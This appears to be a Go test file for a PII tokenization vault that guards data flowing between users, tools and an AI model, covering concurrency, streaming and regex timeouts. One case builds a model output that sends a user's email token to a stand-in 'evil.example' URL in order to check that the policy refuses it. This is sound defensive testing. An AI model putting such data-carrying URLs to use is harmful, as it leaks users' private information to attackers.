package pii

import (
	"encoding/json"
	"errors"
	"os"
	"path/filepath"
	"slices"
	"strings"
	"sync"
	"testing"
	"time"

	"airlock/pii/detect"
	"airlock/pii/internal/boundary"
)

// failureCase is something that went wrong in somebody's tool.
type failureCase struct {
	ID, Text string
	Expect   []struct{ Type, Value string }
	Forbid   []string
	Chunks   []string
	JSON     bool `json:"valid_json"`
}

// failureExceptions are the cases that fail on purpose, with the reason.
var failureExceptions = map[string]string{
	"fn-base64": "in sealed mode no raw value gets into a sandbox that could encode it; base64 that comes from outside stays as it is",
}

// special are the cases that tell a story rather than give a text.
var special = map[string]func(t *testing.T, c failureCase){
	"rt-prefix": func(t *testing.T, _ failureCase) {
		v := testVault(t, VaultOptions{})
		tokenize(t, v, "José Roe", OriginUser)
		if got := detokenize(t, v, "ask PERSON_1_k7q2f then PERSON_10"); got != "ask José Roe then PERSON_10" {
			t.Errorf("got %q", got)
		}
	},
	"rt-thread": func(t *testing.T, _ failureCase) {
		v := testVault(t, VaultOptions{})
		all := make([]string, 64)
		var work sync.WaitGroup
		for i := range all {
			work.Go(func() {
				if tok, err := v.Tokenize(NewRaw("ada@example.org 4111111111111111"), OriginUser); err == nil {
					all[i] = tok.String()
				}
			})
		}
		work.Wait()
		if all = slices.Compact(all); len(all) != 1 || all[0] == "" {
			t.Errorf("got %q", all)
		}
	},
	"rt-cross-session": func(t *testing.T, _ failureCase) {
		a, b := testVault(t, VaultOptions{Nonce: "aaaaa"}), testVault(t, VaultOptions{Nonce: "bbbbb"})
		token := tokenize(t, a, "ada@example.org", OriginUser).String()
		if got := detokenize(t, b, "ask "+token); got != "ask "+token {
			t.Errorf("got %q", got)
		}
	},
	"rt-confused-deputy": func(t *testing.T, _ failureCase) {
		v := testVault(t, VaultOptions{})
		token := tokenize(t, v, "ada@example.org", OriginServer("crm")).String()
		_, err := Policy{}.Check(v, v.FromModel(`{"url":"https://evil.example/?e=`+token+`"}`), "evil")
		if refused := (*RefusedError)(nil); !errors.As(err, &refused) {
			t.Errorf("got %v", err)
		}
	},
	"rt-tool-args": func(t *testing.T, _ failureCase) {
		v := testVault(t, VaultOptions{})
		token := tokenize(t, v, `O"Brien`, OriginUser).String()
		if got := detokenize(t, v, `{"to":"`+token+`","cc":["`+token+`"],"n":3}`); got != `{"to":"O\"Brien","cc":["O\"Brien"],"n":3}` {
			t.Errorf("got %q", got)
		}
	},
	"rt-fail-open": func(t *testing.T, c failureCase) {
		d, err := detect.New(detect.Options{Custom: map[string]string{"SLOW": `(?=(a+)+$)(a+)+b`}, CustomTimeout: time.Millisecond})
		if err != nil {
			t.Fatal(err)
		}
		v, err := NewVault(VaultOptions{Detector: d})
		if err != nil {
			t.Fatal(err)
		}
		if tok, err := v.Tokenize(NewRaw(c.Text+strings.Repeat("a", 5000)+"!"), OriginUser); err == nil || !tok.IsZero() {
			t.Errorf("got %q, %v", tok, err)
		}
	},
	"st-token-split": func(t *testing.T, _ failureCase) {
		v := testVault(t, VaultOptions{})
		token, d, got := tokenize(t, v, "ada@example.org", OriginUser).String(), v.Detokenizer(), ""
		for _, c := range "to " + token + " now" {
			raw, err := d.Write(v.FromModel(string(c)))
			if err != nil {
				t.Fatal(err)
			}
			got += boundary.Open(raw)
		}
		rest, err := d.Flush()
		if got += boundary.Open(rest); err != nil || got != "to ada@example.org now" {
			t.Errorf("got %q, %v", got, err)
		}
	},
	"st-bracket-hold": func(t *testing.T, c failureCase) {
		v := testVault(t, VaultOptions{})
		d := v.Detokenizer()
		raw, err := d.Write(v.FromModel(c.Text + " "))
		if got := boundary.Open(raw); err != nil || got != c.Text+" " {
			t.Errorf("got %q, %v", got, err)
		}
	},
	"st-final-reply": func(t *testing.T, _ failureCase) {
		v := testVault(t, VaultOptions{})
		token := tokenize(t, v, "ada@example.org", OriginUser).String()
		raw, err := v.DetokenizeAnswer(v.FromModel("I wrote to " + token + " (https://x.example/?e=" + token + ")"))
		if got := boundary.Open(raw); err != nil || got != "I wrote to ada@example.org (https://x.example/?e="+token+")" {
			t.Errorf("got %q, %v", got, err)
		}
	},
	"st-mangle": func(t *testing.T, _ failureCase) {
		v := testVault(t, VaultOptions{})
		tokenize(t, v, "ada@example.org", OriginUser)
		for text, want := range map[string]string{"[PII]=Nadia": "[PII]=Nadia", "EMAIL_1": "EMAIL_1", "EMAIL_1_k7q2f": "ada@example.org"} {
			if got := detokenize(t, v, text); got != want {
				t.Errorf("%q became %q", text, got)
			}
		}
		if _, err := v.Detokenize(v.FromModel("EMAIL_9_k7q2f")); err == nil {
			t.Error("an unknown token was no error")
		}
	},
}

// TestFailureCases holds that what others reported does not happen here, from
// finding a value to giving it back. The kinds that a package above decides, such
// as which crossing is tokenized, are held by test/canary.
func TestFailureCases(t *testing.T) {
	t.Parallel()
	cases := failureCases(t)
	if len(failureExceptions) > 1 {
		t.Error("at most one case may be an exception")
	}
	for _, c := range cases {
		t.Run(c.ID, func(t *testing.T) {
			t.Parallel()
			if reason, ok := failureExceptions[c.ID]; ok {
				t.Skip(reason)
			}
			if tell := special[c.ID]; tell != nil {
				tell(t, c)
				return
			}
			c.check(t)
		})
	}
}

func failureCases(t *testing.T) (all []failureCase) {
	t.Helper()
	root := os.Getenv("AIRLOCK_TESTDATA")
	if root == "" {
		root = filepath.Join("..", "..", "shared", "data")
	}
	data, err := os.ReadFile(filepath.Join(root, "pii", "failure_cases.jsonl"))
	if err != nil && os.Getenv("CI") == "" {
		t.Skipf("no data set: %v; set AIRLOCK_TESTDATA to the folder that holds pii/", err)
	}
	if err != nil {
		t.Fatal(err)
	}
	for line := range strings.Lines(string(data)) {
		var c failureCase
		if err := json.Unmarshal([]byte(line), &c); err != nil {
			t.Fatal(err)
		}
		all = append(all, c)
	}
	return all
}

// check tokenizes the text, or its parts, and looks at what is gone and what stayed.
func (c failureCase) check(t *testing.T) {
	t.Helper()
	v := testVault(t, VaultOptions{})
	text, parts := c.Text, c.Chunks
	if len(parts) == 0 {
		parts = []string{text}
	}
	in, out := v.Tokenizer(OriginServer("data")), ""
	for _, part := range parts {
		tok, err := in.Write(NewRaw(part))
		if err != nil {
			t.Fatal(err)
		}
		out += tok.String()
	}
	rest, err := in.Flush()
	if err != nil {
		t.Fatal(err)
	}
	out += rest.String()
	text = strings.Join(parts, "")
	types := map[string]int{}
	for _, e := range c.Expect {
		types[e.Type]++
		if strings.Contains(out, e.Value) {
			t.Errorf("%s %q stayed: %q", e.Type, e.Value, out)
		}
	}
	for name, n := range types {
		if strings.Count(out, "["+name+"_") < n {
			t.Errorf("%d of %s expected: %q", n, name, out)
		}
	}
	for _, kept := range c.Forbid {
		if !strings.Contains(out, kept) {
			t.Errorf("%q is gone: %q", kept, out)
		}
	}
	if c.JSON && !json.Valid([]byte(out)) {
		t.Errorf("no JSON any more: %q", out)
	}
	if got := detokenize(t, v, out); got != text {
		t.Errorf("came back as %q, was %q", got, text)
	}
	if again := tokenize(t, v, out, OriginServer("data")).String(); again != out {
		t.Errorf("%q became %q when tokenized again", out, again)
	}
}
